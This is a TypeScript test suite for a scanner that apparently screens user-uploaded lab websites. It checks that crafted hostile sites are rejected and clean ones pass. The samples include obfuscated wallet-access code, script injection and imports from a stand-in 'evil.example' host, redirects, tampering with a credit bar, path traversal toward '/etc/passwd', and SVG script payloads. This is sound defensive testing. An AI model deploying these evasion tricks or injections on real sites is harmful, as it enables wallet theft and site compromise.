// The lab safety scan, rule by rule: each crafted site must be refused with its LAB_* code, and
// ordinary sites must pass. scanLabSite is pure, so these run without a worker.
import { describe, expect, test } from 'bun:test';
import { scanLabSite, type SiteFile } from '../../../src/lab/scan/site.ts';

const enc = new TextEncoder();
const file = (path: string, content: string | Uint8Array): SiteFile => ({ path, bytes: typeof content === 'string' ? enc.encode(content) : content });
const page = (body: string, head = '') => `<!doctype html><html><head><title>Demo</title>${head}</head><body>${body}</body></html>`;
const site = (extra: SiteFile[] = [], index = page('<h1>Tide tables</h1><p>A small calculator for tides.</p>')) => [file('index.html', index), ...extra];
const js = (src: string) => site([file('app.js', src)], page('<p>hi</p><script src="app.js"></script>'));
const css = (src: string) => site([file('style.css', src)], page('<p>hi</p>', '<link rel="stylesheet" href="style.css">'));
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);

describe('clean sites pass', () => {
  test.each([
    ['a bare index page', site()],
    [
      'a page with a local script, stylesheet, image and data',
      [
        file(
          'index.html',
          page(
            '<h1>Hi</h1><img src="img/a.png"><script src="app.js"></script><a href="https://example.org">a link out</a>',
            '<link rel="stylesheet" href="style.css">',
          ),
        ),
        file('app.js', "document.querySelector('h1').textContent = 'Hello'; setTimeout(() => { location.hash = '#top' }, 10); fetch('data.json')"),
        file('style.css', '* { box-sizing: border-box } body { margin: 0 } .modal { position: fixed; inset: 0; z-index: 10 }'),
        file('img/a.png', PNG),
        file('data.json', '{"a":1}'),
        file('icon.svg', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>'),
        file('notes.txt', 'plain notes'),
      ],
    ],
    [
      'a module script importing a sibling',
      [
        file('index.html', page('<script type="module" src="m.js"></script>')),
        file('m.js', "import { x } from './lib.js'; console.log(x)"),
        file('lib.js', 'export const x = 1'),
      ],
    ],
    ['a redirect to a page of the same site', site([file('b.html', page('<p>b</p>', '<meta http-equiv="refresh" content="0;url=index.html">'))])],
    ['a word about Ethereum in the visible text', site([], page('<p>How Ethereum blocks are ordered, explained with tides.</p>'))],
  ])('%s', (_name, files) => {
    expect(scanLabSite(files)).toBeNull();
  });
});

const cases: [string, SiteFile[], string, Record<string, unknown>?][] = [
  // wallet and signing code
  ['window.ethereum', js('if (window.ethereum) window.ethereum.request({ method: "eth_requestAccounts" })'), 'LAB_WALLET_CODE', { file: 'app.js', line: 1 }],
  ['window.solana connect', js('const p = window.solana; p.connect()'), 'LAB_WALLET_CODE'],
  ['phantom provider', js('const provider = window.phantom?.solana'), 'LAB_WALLET_CODE'],
  ['signTransaction call', js('async function go(w, tx) {\n  return w.signTransaction(tx)\n}'), 'LAB_WALLET_CODE', { line: 2 }],
  ['eth_requestAccounts as a string', js('const m = "eth_requestAccounts"; call(m)'), 'LAB_WALLET_CODE'],
  ['bracket access with concatenation', js("const p = window['eth' + 'ereum']"), 'LAB_WALLET_CODE'],
  ['a name built with atob', js("const p = window[atob('ZXRoZXJldW0=')]"), 'LAB_WALLET_CODE'],
  ['a name built with fromCharCode', js('const k = String.fromCharCode(115,111,108,97,110,97); globalThis[k].connect()'), 'LAB_WALLET_CODE'],
  ['a name built with a join', js("const p = self[['so', 'la', 'na'].join('')]"), 'LAB_WALLET_CODE'],
  ['a name reversed', js("const p = window['muerehte'.split('').reverse().join('')]"), 'LAB_WALLET_CODE'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the scanned site's own JavaScript holds the template literal
  ['a template literal', js('const a = "sign"; x[`${a}Message`](m)'), 'LAB_WALLET_CODE'],
  ['dynamic access to window', js('const k = location.hash.slice(1); window[k]()'), 'LAB_WALLET_CODE', { reason: 'dynamic_global_access' }],
  ['solana web3 Keypair', js('const kp = solanaWeb3.Keypair.generate()'), 'LAB_WALLET_CODE'],
  ['wallet-adapter import', js("import { useWallet } from './@solana/wallet-adapter-react.js'"), 'LAB_WALLET_CODE'],
  ['wallet code in an inline handler', site([], page('<button onclick="window.ethereum.enable()">go</button>')), 'LAB_WALLET_CODE', { file: 'index.html' }],
  // scripts from other hosts
  [
    'script src on another host',
    site([], page('<script src="https://cdn.example.com/x.js"></script>')),
    'LAB_EXTERNAL_SCRIPT',
    { reason: 'external_script_src' },
  ],
  ['protocol-relative script src', site([], page('<script src="//cdn.example.com/x.js"></script>')), 'LAB_EXTERNAL_SCRIPT'],
  ['a script of another lab site', site([], page('<script src="/lab/other/site/x.js"></script>')), 'LAB_EXTERNAL_SCRIPT'],
  [
    'modulepreload of another host',
    site([], page('<p>x</p>', '<link rel="modulepreload" href="https://cdn.example.com/m.js">')),
    'LAB_EXTERNAL_SCRIPT',
    { reason: 'external_preload' },
  ],
  [
    'createElement script with src',
    js("const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s)"),
    'LAB_EXTERNAL_SCRIPT',
    { reason: 'dynamic_script_src' },
  ],
  [
    'createElement script with setAttribute',
    js("const s = document.createElement('scr' + 'ipt'); s.setAttribute('src', url); document.body.appendChild(s)"),
    'LAB_EXTERNAL_SCRIPT',
  ],
  [
    'a script injected by document.write',
    js("document.write('<scr' + 'ipt src=\"https://evil.example/x.js\"></scr' + 'ipt>')"),
    'LAB_EXTERNAL_SCRIPT',
    { reason: 'script_injection' },
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the scanned site's own JavaScript holds the template literal
  ['a script injected through innerHTML', js('el.innerHTML = `<script src="${u}"></script>`'), 'LAB_EXTERNAL_SCRIPT'],
  ['import() of an absolute URL', js("import('https://evil.example/m.js').then(m => m.run())"), 'LAB_EXTERNAL_SCRIPT', { reason: 'external_import' }],
  ['static import from another host', js("import x from 'https://evil.example/m.js'"), 'LAB_EXTERNAL_SCRIPT'],
  ['an import map to another host', site([], page('<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script>')), 'LAB_EXTERNAL_SCRIPT'],
  // redirects
  [
    'meta refresh to another host',
    site([], page('<p>x</p>', '<meta http-equiv="Refresh" content="3; URL=https://elsewhere.example/">')),
    'LAB_EXTERNAL_REDIRECT',
    { reason: 'meta_refresh', file: 'index.html', line: 1 },
  ],
  ['location assignment', js("window.location = 'https://elsewhere.example'"), 'LAB_EXTERNAL_REDIRECT'],
  ['location.href assignment', js("location.href = 'https://elsewhere.example'"), 'LAB_EXTERNAL_REDIRECT'],
  ['location.replace', js("document.location.replace('https://elsewhere.example')"), 'LAB_EXTERNAL_REDIRECT'],
  [
    'a redirect after a timeout',
    js("setTimeout(function () {\n  top.location.assign('https://elsewhere.example')\n}, 3000)"),
    'LAB_EXTERNAL_REDIRECT',
    { line: 2 },
  ],
  ['window.open at load', js("addEventListener('load', () => window.open('https://elsewhere.example'))"), 'LAB_EXTERNAL_REDIRECT'],
  ['a redirect to a computed address', js('location.href = atob(x)'), 'LAB_EXTERNAL_REDIRECT'],
  ['a redirect rules file', site([file('_redirects', '/* https://elsewhere.example 301')]), 'LAB_EXTERNAL_REDIRECT', { reason: 'redirect_rules_file' }],
  // the credit bar
  [
    'a CSS rule hiding the credit bar by its class',
    css('.svc-credit { display: none }'),
    'LAB_CREDIT_TAMPER',
    { reason: 'rule_names_credit_bar', file: 'style.css', line: 1 },
  ],
  ['a CSS rule moving the bar by its id', css('body {}\n#svc-credit { transform: translateY(100px) }'), 'LAB_CREDIT_TAMPER', { line: 2 }],
  ['a CSS rule on the bar element', css('svc-credit { opacity: 0 }'), 'LAB_CREDIT_TAMPER'],
  ['an attribute selector reaching the bar', css('[id^="svc"] { visibility: hidden }'), 'LAB_CREDIT_TAMPER'],
  [
    'a broad rule hiding the last child',
    css('body > :last-child { display: none !important }'),
    'LAB_CREDIT_TAMPER',
    { reason: 'broad_rule_hides_or_moves_credit_bar' },
  ],
  ['undefined custom elements hidden', css(':not(:defined) { display: none }'), 'LAB_CREDIT_TAMPER'],
  [
    'a full-viewport overlay',
    css('.cover { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999 }'),
    'LAB_CREDIT_TAMPER',
    { reason: 'full_viewport_overlay' },
  ],
  ['an overlay in a style attribute', site([], page('<div style="position:fixed;inset:0;z-index:2147483000">x</div>')), 'LAB_CREDIT_TAMPER'],
  [
    'the bar hidden from an inline style element',
    site([], page('<style>\n.x{}\n.svc-credit{height:0}\n</style><p>x</p>')),
    'LAB_CREDIT_TAMPER',
    { file: 'index.html', line: 3 },
  ],
  ['a script removing the bar', js("document.querySelector('#svc-' + 'credit').remove()"), 'LAB_CREDIT_TAMPER', { reason: 'script_names_credit_bar' }],
  ['a script taking the last child of the body', js('document.body.lastElementChild.hidden = true'), 'LAB_CREDIT_TAMPER'],
  ['a script rewriting the whole body', js("document.body.innerHTML = '<p>mine</p>'"), 'LAB_CREDIT_TAMPER'],
  ['a fake credit bar', site([], page('<div class="svc-credit">made by me</div>')), 'LAB_CREDIT_TAMPER'],
  // visible text
  ['price talk in visible text', site([], page('<h1>Our token</h1><p>This token is going to 10x by Friday.</p>')), 'LAB_PRICE_TALK', { file: 'index.html' }],
  ['self pitch opening the page', site([], page('<p>We are the best team on the board, and here is why.</p>')), 'LAB_SELF_PITCH'],
  // paths
  ['a ../ traversal', site([file('../evil.html', 'x')]), 'LAB_BAD_PATH', { reason: 'traversal', field: 'files[1].path' }],
  ['a nested ../ traversal', site([file('a/../../evil.html', 'x')]), 'LAB_BAD_PATH', { reason: 'traversal' }],
  ['a URL-encoded traversal', site([file('%2e%2e/evil.html', 'x')]), 'LAB_BAD_PATH', { reason: 'encoded_traversal' }],
  ['an absolute path', site([file('/etc/passwd.txt', 'x')]), 'LAB_BAD_PATH', { reason: 'absolute' }],
  ['a backslash', site([file('a\\b.html', 'x')]), 'LAB_BAD_PATH', { reason: 'backslash' }],
  ['a NUL byte', site([file('a.html\0.png', 'x')]), 'LAB_BAD_PATH', { reason: 'nul' }],
  ['a hidden file', site([file('.htaccess', 'x')]), 'LAB_BAD_PATH', { reason: 'hidden' }],
  ['a path too deep', site([file('a/b/c/d/e/f/g.html', 'x')]), 'LAB_BAD_PATH', { reason: 'too_deep' }],
  ['a duplicate path ignoring case', site([file('Index.html', 'x')]), 'LAB_BAD_PATH', { reason: 'duplicate' }],
  ['a missing index.html', [file('home.html', page('x'))], 'LAB_BAD_PATH', { reason: 'missing_index' }],
  // types
  ['an unserved extension', site([file('run.exe', 'MZ')]), 'LAB_BAD_TYPE', { reason: 'unserved_type' }],
  ['a PNG that is not one', site([file('a.png', '<script>alert(1)</script>')]), 'LAB_BAD_TYPE', { reason: 'content_does_not_match_extension' }],
  ['a text file that is not UTF-8', site([file('a.txt', new Uint8Array([0xff, 0xfe, 0xfd]))]), 'LAB_BAD_TYPE', { reason: 'not_utf8' }],
  ['broken JSON', site([file('a.json', '{nope')]), 'LAB_BAD_TYPE', { reason: 'json_syntax' }],
  [
    'an SVG with script',
    site([file('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')]),
    'LAB_BAD_TYPE',
    { reason: 'svg_active_content' },
  ],
  [
    'an SVG with an event handler',
    site([file('a.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>')]),
    'LAB_BAD_TYPE',
    { reason: 'svg_active_content' },
  ],
  [
    'an SVG with a foreign object',
    site([file('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>')]),
    'LAB_BAD_TYPE',
  ],
  ['an SVG that is not well formed', site([file('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>')]), 'LAB_BAD_TYPE', { reason: 'svg_malformed' }],
  ['JavaScript that does not parse', js('function ( {'), 'LAB_BAD_TYPE', { reason: 'js_syntax' }],
];

describe('each rule refuses its crafted site', () => {
  // Rest parameters: a fixed arity above the row's length would make bun wait for a done callback.
  test.each(cases)('%s', (...[_name, files, code, details]) => {
    const got = scanLabSite(files);
    expect(got?.code).toBe(code as never);
    if (details) expect(got?.details).toMatchObject(details);
  });
});

describe('content hidden behind an SVG script is still scanned', () => {
  // happy-dom drops what follows <svg><script>; the element scan uses a spec tokenizer instead.
  test('an external script after an inline SVG script is found', () => {
    const got = scanLabSite(site([], page('<svg><script>1</script></svg><script src="https://evil.example/x.js"></script>')));
    expect(got?.code).toBe('LAB_EXTERNAL_SCRIPT');
  });
});
